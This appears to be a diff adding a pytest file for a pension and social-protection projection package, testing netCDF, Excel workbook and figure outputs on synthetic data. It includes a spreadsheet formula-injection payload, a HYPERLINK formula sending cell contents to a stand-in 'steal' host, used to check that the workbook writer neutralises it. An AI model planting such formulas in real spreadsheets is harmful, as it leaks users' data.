@@ -1,0 +1,530 @@
+"""Report outputs: netCDF, the Excel workbook and figures, on a small synthetic Dataset."""
+
+from __future__ import annotations
+
+import math
+from pathlib import Path
+
+import netCDF4
+import numpy as np
+import openpyxl
+import pytest
+import xarray as xr
+
+from spfsim.errors import OutputExistsError
+from spfsim.report.excel import neutralise_text, sheet_name_for, write_workbook
+from spfsim.report.io import atomic_write, write_netcdf
+from spfsim.report.plots import (
+    cost_rate_figure,
+    population_pyramid,
+    reserve_ratio_figure,
+    write_figures,
+)
+
+PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
+EVIL_NAME = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")'
+YEARS = np.arange(2025, 2035)
+AGES = np.arange(101)
+SEXES = ["male", "female"]
+
+
+def _v(dims, data, units, long_name):
+    return (dims, np.asarray(data, dtype=float), {"units": units, "long_name": long_name})
+
+
+@pytest.fixture
+def ds() -> xr.Dataset:
+    """Ten years, two schemes: a contributory pension (reserve runs out in 2031) and a
+    non-contributory social pension named like a formula."""
+    ny, na, ns = len(YEARS), len(AGES), 2
+    t = np.arange(ny)[:, None, None]
+    shape = np.exp(-AGES / 45.0)[None, :, None] * 20_000.0
+    population = shape * np.array([1.0, 1.04])[None, None, :] * (1.01 ** t)
+    deaths = population * (0.0005 + 0.00008 * np.exp(0.085 * AGES))[None, :, None].clip(max=1)
+    migration = np.zeros_like(population)
+    migration[:, 20:40, :] = 50.0
+    working = ((AGES >= 20) & (AGES < 65))[None, :, None]
+    labour_force = population * 0.7 * working
+    employed = labour_force * 0.93
+
+    old = (AGES >= 65)[None, :, None]
+    contributors = np.zeros((ny, na, 2, ns))
+    contributors[..., 0] = employed * 0.6
+    beneficiaries = np.zeros((ny, na, 2, ns))
+    beneficiaries[..., 0] = population * 0.5 * old
+    beneficiaries[..., 1] = population * 0.3 * old
+
+    earnings = 12_000.0 * 1.04 ** np.arange(ny)
+    insured = contributors[..., 0].sum(axis=(1, 2)) * earnings
+    benefits0 = 0.20 * insured * 1.08 ** np.arange(ny)
+    benefits1 = beneficiaries[..., 1].sum(axis=(1, 2)) * 1_500.0
+    admin0, admin1 = 0.02 * benefits0, 0.03 * benefits1
+    contrib0 = 0.18 * insured
+    rate = np.full(ny, 0.04)
+    reserve0 = np.empty(ny)
+    income0 = np.empty(ny)
+    previous = 0.5 * benefits0[0]
+    for k in range(ny):
+        income0[k] = previous * rate[k]
+        reserve0[k] = previous + contrib0[k] + income0[k] - benefits0[k] - admin0[k]
+        previous = reserve0[k]
+    gdp = 3.0 * employed.sum(axis=(1, 2)) * earnings
+
+    ys = ("year", "scheme")
+    money = "XOF (nominal) per year"
+    insured_earnings = np.stack([insured, np.zeros(ny)], axis=-1)
+    benefit = np.stack([benefits0, benefits1], axis=-1)
+    admin = np.stack([admin0, admin1], axis=-1)
+    reserve = np.stack([reserve0, np.zeros(ny)], axis=-1)
+    cost = benefit + admin
+    paygo = np.stack([cost[:, 0] / insured, np.full(ny, np.nan)], axis=-1)
+    ratio = reserve / cost
+    depleted = YEARS[np.flatnonzero(reserve0 < 0)]
+    data = {
+        "population": _v(("year", "age", "sex"), population, "persons", "population at 1 July"),
+        "births": _v(("year", "sex"), np.full((ny, 2), 24_000.0) * [1.05, 1.0], "persons",
+                     "live births"),
+        "deaths": _v(("year", "age", "sex"), deaths, "persons", "deaths"),
+        "net_migration": _v(("year", "age", "sex"), migration, "persons", "net migrants"),
+        "life_expectancy": _v(("year", "sex"), 70 + 0.2 * np.arange(ny)[:, None] + [0, 4],
+                              "years", "period life expectancy at birth"),
+        "labour_force": _v(("year", "age", "sex"), labour_force, "persons", "labour force"),
+        "employed": _v(("year", "age", "sex"), employed, "persons", "employed persons"),
+        "gdp": _v(("year",), gdp, "XOF (nominal)", "gross domestic product"),
+        "average_earnings": _v(("year",), earnings, money, "average annual earnings"),
+        "price_index": _v(("year",), 1.02 ** np.arange(ny), "1", "consumer price index"),
+        "wage_index": _v(("year",), 1.04 ** np.arange(ny), "1", "average earnings index"),
+        "interest_rate": _v(("year",), rate, "fraction per year", "nominal return"),
+        "contributors": _v(("year", "age", "sex", "scheme"), contributors, "persons",
+                           "persons contributing during the year"),
+        "beneficiaries": _v(("year", "age", "sex", "scheme"), beneficiaries, "persons",
+                            "persons receiving a benefit"),
+        "new_beneficiaries": _v(("year", "sex", "scheme"), np.full((ny, 2, ns), 900.0),
+                                "persons", "benefits awarded during the year"),
+        "average_new_benefit": _v(("year", "sex", "scheme"), np.full((ny, 2, ns), 2_400.0),
+                                  money, "average annual amount of new awards"),
+        "insured_earnings": _v(ys, insured_earnings, money, "insured earnings"),
+        "contribution_income": _v(ys, np.stack([contrib0, np.zeros(ny)], axis=-1), money,
+                                  "contribution income"),
+        "state_transfer": _v(ys, np.stack([np.zeros(ny), cost[:, 1]], axis=-1), money,
+                             "transfers from the state budget"),
+        "investment_income": _v(ys, np.stack([income0, np.zeros(ny)], axis=-1), money,
+                                "investment income of the reserve"),
+        "benefit_expenditure": _v(ys, benefit, money, "benefit expenditure"),
+        "admin_expenditure": _v(ys, admin, money, "administrative expenditure"),
+        "reserve": _v(ys, reserve, "XOF (nominal)", "reserve at the end of the year"),
+        "paygo_cost_rate": _v(ys, paygo, "fraction", "PAYG cost rate"),
+        "reserve_ratio": _v(ys, ratio, "fraction", "reserve / expenditure"),
+        "cost_to_gdp": _v(ys, cost / gdp[:, None], "fraction", "expenditure / GDP"),
+        "depletion_year": _v(("scheme",), [float(depleted[0]) if depleted.size else np.nan,
+                                           np.nan], "calendar year", "depletion year"),
+    }
+    coords = {
+        "year": ("year", YEARS.astype("int64"), {"long_name": "calendar year"}),
+        "age": ("age", AGES.astype("int64"), {"units": "years", "long_name": "age"}),
+        "sex": ("sex", np.array(SEXES, dtype=object)),
+        "scheme": ("scheme", np.array(["pension", "social_pension"], dtype=object)),
+        "scheme_name": ("scheme", np.array(["Old-age pension", EVIL_NAME], dtype=object)),
+        "scheme_type": ("scheme", np.array(["db_pension", "universal"], dtype=object)),
+        "scheme_kind": ("scheme", np.array(["contributory", "non_contributory"], dtype=object)),
+    }
+    out = xr.Dataset(data, coords=coords)
+    out.attrs = {
+        "title": "spfsim projection: Testland",
+        "model": "testland",
+        "model_path": "models/testland/model.toml",
+        "spfsim_version": "0.1.0",
+        "input_hash": "sha256:" + "0" * 64,
+        "engine": "cohort",
+        "seed": "0",
+        "created": "2025-01-01T00:00:00+00:00",
+        "base_year": 2025,
+        "end_year": 2034,
+        "currency": "XOF",
+        "price_basis": "nominal (current prices)",
+    }
+    return out
+
+
+def _find_row(ws, year: int) -> int:
+    for (cell,) in ws.iter_rows(min_col=1, max_col=1):
+        if cell.value == year:
+            return cell.row
+    raise AssertionError(f"year {year} not found in sheet {ws.title}")
+
+
+def _header_col(ws, label: str) -> int:
+    for row in ws.iter_rows(max_row=10):
+        for cell in row:
+            if cell.value == label:
+                return cell.column
+    raise AssertionError(f"header {label!r} not found in sheet {ws.title}")
+
+
+# --------------------------------------------------------------------------- netCDF
+
+
+def test_netcdf_round_trip(ds, tmp_path):
+    path = write_netcdf(ds, tmp_path / "results.nc")
+    assert path == tmp_path / "results.nc"
+    with xr.open_dataset(path) as back:
+        back = back.load()
+    assert list(back["sex"].values) == SEXES
+    assert list(back["scheme"].values) == ["pension", "social_pension"]
+    assert back["scheme_name"].values[1] == EVIL_NAME
+    assert list(back["scheme_kind"].values) == ["contributory", "non_contributory"]
+    assert back.attrs == ds.attrs
+    for name in ds.data_vars:
+        np.testing.assert_array_equal(back[name].values, ds[name].values)
+        assert back[name].attrs["units"] == ds[name].attrs["units"]
+        assert back[name].attrs["long_name"] == ds[name].attrs["long_name"]
+    assert np.isnan(back["paygo_cost_rate"].sel(scheme="social_pension")).all()
+    with netCDF4.Dataset(path) as nc:  # variable-length strings, not char arrays
+        assert nc.variables["sex"].dtype is str
+        assert nc.variables["scheme"].dtype is str
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.nc"]
+
+
+def test_netcdf_refuses_existing_file(ds, tmp_path):
+    path = tmp_path / "results.nc"
+    path.write_bytes(b"keep me")
+    with pytest.raises(OutputExistsError, match=r"results\.nc"):
+        write_netcdf(ds, path)
+    assert path.read_bytes() == b"keep me"
+    write_netcdf(ds, path, overwrite=True)
+    with xr.open_dataset(path) as back:
+        assert back.sizes["year"] == len(YEARS)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["results.nc"]
+
+
+# --------------------------------------------------------------------------- atomic writes
+
+
+def test_atomic_write_failure_leaves_nothing(tmp_path):
+    seen = []
+
+    def writer(tmp: Path) -> None:
+        seen.append(tmp)
+        assert tmp.parent == tmp_path
+        assert tmp.name.startswith(".out.bin.tmp-")
+        tmp.write_bytes(b"half of it")
+        raise RuntimeError("disk on fire")
+
+    with pytest.raises(RuntimeError, match="disk on fire"):
+        atomic_write(tmp_path / "out.bin", writer)
+    assert seen
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_atomic_write_failure_keeps_existing_file(tmp_path):
+    target = tmp_path / "out.bin"
+    target.write_bytes(b"old")
+
+    def writer(tmp: Path) -> None:
+        tmp.write_bytes(b"new, but broken")
+        raise OSError("no space left")
+
+    with pytest.raises(OSError, match="no space left"):
+        atomic_write(target, writer, overwrite=True)
+    assert target.read_bytes() == b"old"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.bin"]
+
+
+def test_atomic_write_refuses_before_calling_writer(tmp_path):
+    target = tmp_path / "out.bin"
+    target.write_bytes(b"old")
+    calls = []
+    with pytest.raises(OutputExistsError, match=r"out\.bin"):
+        atomic_write(target, calls.append)
+    assert calls == []
+    assert target.read_bytes() == b"old"
+    atomic_write(target, lambda tmp: tmp.write_bytes(b"new"), overwrite=True)
+    assert target.read_bytes() == b"new"
+    assert [p.name for p in tmp_path.iterdir()] == ["out.bin"]
+
+
+def test_atomic_write_writer_that_writes_nothing(tmp_path):
+    with pytest.raises(RuntimeError, match="did not create"):
+        atomic_write(tmp_path / "out.bin", lambda tmp: None)
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_atomic_write_missing_folder(tmp_path):
+    with pytest.raises(FileNotFoundError):
+        atomic_write(tmp_path / "nope" / "out.bin", lambda tmp: tmp.write_bytes(b"x"))
+    assert list(tmp_path.iterdir()) == []
+
+
+# --------------------------------------------------------------------------- workbook
+
+
+ASSUMPTIONS = [
+    ("contributions", "contribution_rate", 0.18, "fraction of insured earnings",
+     "total contribution rate"),
+    ("benefits", "pensionable_age", 60, "years", "normal retirement age"),
+    ("benefits", "injected", "@SUM(A1:A9)", "", "-2+3 a description that starts with a sign"),
+    ("economy", "missing", float("nan"), "", "a NaN value"),
+]
+
+
+def test_workbook_sheets_and_values(ds, tmp_path):
+    path = write_workbook(ds, tmp_path / "report.xlsx", assumptions_table=ASSUMPTIONS)
+    wb = openpyxl.load_workbook(path)
+    assert wb.sheetnames == ["Summary", "pension", "social_pension", "Population",
+                             "Assumptions", "Metadata"]
+
+    ws = wb["pension"]
+    row = _find_row(ws, 2030)
+    pension = ds.sel(scheme="pension", year=2030)
+    expected = {
+        "Contributors": float(pension["contributors"].sum()),
+        "Beneficiaries": float(pension["beneficiaries"].sum()),
+        "Insured earnings": float(pension["insured_earnings"]),
+        "Contribution income": float(pension["contribution_income"]),
+        "Investment income": float(pension["investment_income"]),
+        "Benefit expenditure": float(pension["benefit_expenditure"]),
+        "Admin expenditure": float(pension["admin_expenditure"]),
+        "Reserve (end of year)": float(pension["reserve"]),
+        "PAYG cost rate": float(pension["paygo_cost_rate"]),
+        "Reserve ratio": float(pension["reserve_ratio"]),
+        "Cost % of GDP": float(pension["cost_to_gdp"]),
+    }
+    for label, value in expected.items():
+        cell = ws.cell(row=row, column=_header_col(ws, label))
+        assert cell.value == pytest.approx(value, rel=1e-12), label
+    # formats, a units row under the header, frozen header
+    col = _header_col(ws, "PAYG cost rate")
+    assert ws.cell(row=row, column=col).number_format == "0.00%"
+    money_col = _header_col(ws, "Benefit expenditure")
+    assert ws.cell(row=row, column=money_col).number_format == "#,##0"
+    header_row = ws.cell(row=1, column=1).row
+    for r in ws.iter_rows(max_row=10):
+        if r[0].value == "Year":
+            header_row = r[0].row
+    assert ws.cell(row=header_row + 1, column=money_col).value == "XOF (nominal) per year"
+    assert ws.freeze_panes == f"B{header_row + 2}"
+    assert ws.column_dimensions["B"].width >= 10
+
+    # charts: two in the contributory sheet, one in the non-contributory one
+    assert len(ws._charts) >= 2
+    assert len(wb["social_pension"]._charts) >= 1
+    assert len(wb["Population"]._charts) >= 1
+
+    # population sheet values
+    pop = wb["Population"]
+    prow = _find_row(pop, 2034)
+    total = float(ds["population"].sel(year=2034).sum())
+    assert pop.cell(row=prow, column=_header_col(pop, "Total population")).value == \
+        pytest.approx(total)
+    le = pop.cell(row=prow, column=_header_col(pop, "Life expectancy at birth, female")).value
+    assert le == pytest.approx(float(ds["life_expectancy"].sel(year=2034, sex="female")))
+
+    # metadata: every attr and every variable
+    meta = wb["Metadata"]
+    texts = {c.value for r in meta.iter_rows() for c in r if c.value is not None}
+    for key in ds.attrs:
+        assert key in texts
+    for name in ds.data_vars:
+        assert name in texts
+    assert "sha256:" + "0" * 64 in texts
+
+    # assumptions sheet
+    assumptions = wb["Assumptions"]
+    rows = [[c.value for c in r] for r in assumptions.iter_rows(min_row=4, max_col=5)]
+    assert rows[0] == list(ASSUMPTIONS[0])
+    assert rows[1][2] == 60
+    assert rows[3][2] is None
+
+
+def test_workbook_summary(ds, tmp_path):
+    path = write_workbook(ds, tmp_path / "report.xlsx")
+    ws = openpyxl.load_workbook(path)["Summary"]
+    cells = [[c.value for c in r] for r in ws.iter_rows()]
+    flat = [v for r in cells for v in r if v is not None]
+    assert "spfsim projection: Testland" in flat
+    assert "XOF" in flat
+    assert "nominal (current prices)" in flat
+    depletion = ds["depletion_year"].sel(scheme="pension").item()
+    assert math.isfinite(depletion)  # the synthetic fund runs out within the horizon
+    scheme_rows = {r[0]: r for r in cells if r and r[0] in ("pension", "social_pension")
+                   and r[3] in ("contributory", "non-contributory")}
+    assert scheme_rows["pension"][4] == int(depletion)
+    assert scheme_rows["social_pension"][4] == "n/a (no fund)"
+    # key figures: base year and end year (base + 25 is beyond this 10-year horizon)
+    header = next(r for r in cells if r[:3] == ["Scheme id", "Name", "Indicator"])
+    assert header[4:6] == ["2025", "2034"]
+    payg = next(r for r in cells if r[0] == "pension" and r[2] == "PAYG cost rate")
+    assert payg[4] == pytest.approx(float(ds["paygo_cost_rate"].sel(scheme="pension",
+                                                                    year=2025)))
+    gdp_row = next(r for r in cells if r[0] == "social_pension" and r[2] == "Cost % of GDP")
+    assert gdp_row[5] == pytest.approx(float(ds["cost_to_gdp"].sel(scheme="social_pension",
+                                                                   year=2034)))
+    dependency = next(r for r in cells if r[0] and str(r[0]).startswith("Old-age dependency"))
+    pop = ds["population"].sel(year=2025).sum("sex")
+    expected = float(pop.sel(age=slice(65, None)).sum() / pop.sel(age=slice(15, 64)).sum())
+    assert dependency[4] == pytest.approx(expected)
+
+
+def test_workbook_depletion_text(ds, tmp_path):
+    ds = ds.copy()
+    # no depletion of the fund; a spurious year on the budget-financed scheme is not shown
+    ds["depletion_year"] = ("scheme", [np.nan, 2029.0], ds["depletion_year"].attrs)
+    ws = openpyxl.load_workbook(write_workbook(ds, tmp_path / "r.xlsx"))["Summary"]
+    rows = {r[0]: r for r in ws.iter_rows(values_only=True)
+            if r[3] in ("contributory", "non-contributory")}
+    assert rows["pension"][4] == "not within horizon"
+    assert rows["social_pension"][4] == "n/a (no fund)"
+
+
+def test_workbook_formula_injection_neutralised(ds, tmp_path):
+    path = write_workbook(ds, tmp_path / "report.xlsx", assumptions_table=ASSUMPTIONS)
+    wb = openpyxl.load_workbook(path)
+    found = 0
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), \
+                        (ws.title, cell.coordinate, cell.value)
+                    if "HYPERLINK" in cell.value:
+                        found += 1
+                        assert cell.value.startswith("'" + EVIL_NAME)
+    assert found >= 2  # summary and the scheme sheet title at least
+    values = [c.value for r in wb["Assumptions"].iter_rows() for c in r]
+    assert "'@SUM(A1:A9)" in values
+
+
+def test_neutralise_text():
+    assert neutralise_text("=1+1") == "'=1+1"
+    assert neutralise_text("+41 22") == "'+41 22"
+    assert neutralise_text("-x") == "'-x"
+    assert neutralise_text("@x") == "'@x"
+    assert neutralise_text("\tx") == "'\tx"
+    assert neutralise_text("\rx") == "'\rx"
+    assert neutralise_text("plain - text") == "plain - text"
+    assert neutralise_text("bad\x00char\x07s") == "badchars"
+
+
+def test_workbook_nan_is_empty_cell(ds, tmp_path):
+    path = write_workbook(ds, tmp_path / "report.xlsx")
+    ws = openpyxl.load_workbook(path)["social_pension"]
+    row = _find_row(ws, 2027)
+    assert ws.cell(row=row, column=_header_col(ws, "PAYG cost rate")).value is None
+    # the infinite reserve ratio of a scheme with no spending is empty too
+    ds2 = ds.copy(deep=True)
+    ds2["reserve_ratio"][0, 0] = np.inf
+    ws2 = openpyxl.load_workbook(write_workbook(ds2, tmp_path / "r2.xlsx"))["pension"]
+    assert ws2.cell(row=_find_row(ws2, 2025),
+                    column=_header_col(ws2, "Reserve ratio")).value is None
+
+
+def test_workbook_without_assumptions(ds, tmp_path):
+    wb = openpyxl.load_workbook(write_workbook(ds, tmp_path / "report.xlsx"))
+    text = " ".join(str(c.value) for r in wb["Assumptions"].iter_rows() for c in r
+                    if c.value is not None)
+    assert "No assumptions table was given" in text
+
+
+def test_workbook_refuses_existing_file(ds, tmp_path):
+    path = tmp_path / "report.xlsx"
+    path.write_bytes(b"precious")
+    with pytest.raises(OutputExistsError, match=r"report\.xlsx"):
+        write_workbook(ds, path)
+    assert path.read_bytes() == b"precious"
+    write_workbook(ds, path, overwrite=True)
+    assert openpyxl.load_workbook(path).sheetnames[0] == "Summary"
+    assert [p.name for p in tmp_path.iterdir()] == ["report.xlsx"]
+
+
+def test_workbook_bad_input_writes_nothing(ds, tmp_path):
+    with pytest.raises(ValueError, match="row 0"):
+        write_workbook(ds, tmp_path / "a.xlsx", assumptions_table=[("too", "short")])
+    with pytest.raises(ValueError, match="scenario"):
+        write_workbook(ds.expand_dims(scenario=["a", "b"]), tmp_path / "b.xlsx")
+    with pytest.raises(ValueError, match="reserve"):
+        write_workbook(ds.drop_vars("reserve"), tmp_path / "c.xlsx")
+    with pytest.raises(ValueError, match=r"\.xlsx"):
+        write_workbook(ds, tmp_path / "d.csv")
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_sheet_names_sanitised():
+    assert sheet_name_for("a/b:c*d?e[f]g\\h") == "a_b_c_d_e_f_g_h"
+    assert len(sheet_name_for("x" * 80)) == 31
+    assert sheet_name_for("summary") == "summary~2"
+    assert sheet_name_for("dup", taken=["DUP"]) == "dup~2"
+    assert sheet_name_for("''") == "scheme"
+    long = "y" * 40
+    first = sheet_name_for(long)
+    assert sheet_name_for(long, taken=[first]) == "y" * 29 + "~2"
+
+
+def test_workbook_long_and_odd_scheme_ids(ds, tmp_path):
+    ids = ["a very long scheme identifier that exceeds excel", "odd/id:*?"]
+    ds = ds.assign_coords(scheme=np.array(ids, dtype=object))
+    wb = openpyxl.load_workbook(write_workbook(ds, tmp_path / "report.xlsx"))
+    assert wb.sheetnames[1] == ids[0][:31]
+    assert wb.sheetnames[2] == "odd_id___"
+
+
+# --------------------------------------------------------------------------- figures
+
+
+def test_figures_are_figures(ds):
+    from matplotlib.figure import Figure
+
+    for fig in (population_pyramid(ds, 2025), cost_rate_figure(ds), reserve_ratio_figure(ds)):
+        assert isinstance(fig, Figure)
+        assert fig.get_suptitle() == "spfsim projection: Testland"
+    axes = cost_rate_figure(ds).axes
+    assert len(axes) == 2
+    assert "%" in axes[0].get_ylabel()
+    assert "GDP" in axes[1].get_ylabel()
+    with pytest.raises(ValueError, match="2040"):
+        population_pyramid(ds, 2040)
+
+
+def test_plots_do_not_touch_pyplot_state():
+    import subprocess
+    import sys
+
+    code = ("import sys, matplotlib; "
+            "before = dict.__getitem__(matplotlib.rcParams, 'backend'); "
+            "import spfsim.report.plots; "
+            "assert 'matplotlib.pyplot' not in sys.modules; "
+            "assert dict.__getitem__(matplotlib.rcParams, 'backend') == before")
+    subprocess.run([sys.executable, "-c", code], check=True)
+
+
+def test_figures_not_registered_with_pyplot(ds):
+    from matplotlib._pylab_helpers import Gcf
+
+    before = Gcf.get_num_fig_managers()
+    population_pyramid(ds, 2034)
+    reserve_ratio_figure(ds)
+    assert Gcf.get_num_fig_managers() == before
+
+
+def test_write_figures(ds, tmp_path):
+    paths = write_figures(ds, tmp_path / "figs")
+    names = [p.name for p in paths]
+    assert names == ["population_pyramid_2025.png", "population_pyramid_2034.png",
+                     "cost_rates.png", "reserve_ratio.png"]
+    for p in paths:
+        data = p.read_bytes()
+        assert len(data) > 1000
+        assert data.startswith(PNG_SIGNATURE)
+    assert sorted(p.name for p in (tmp_path / "figs").iterdir()) == sorted(names)
+
+
+def test_write_figures_refuses_any_existing(ds, tmp_path):
+    (tmp_path / "cost_rates.png").write_bytes(b"mine")
+    with pytest.raises(OutputExistsError, match=r"cost_rates\.png"):
+        write_figures(ds, tmp_path)
+    # checked before writing: nothing else appeared, the existing file is unchanged
+    assert [p.name for p in tmp_path.iterdir()] == ["cost_rates.png"]
+    assert (tmp_path / "cost_rates.png").read_bytes() == b"mine"
+    paths = write_figures(ds, tmp_path, overwrite=True)
+    assert (tmp_path / "cost_rates.png").read_bytes().startswith(PNG_SIGNATURE)
+    assert len(paths) == 4
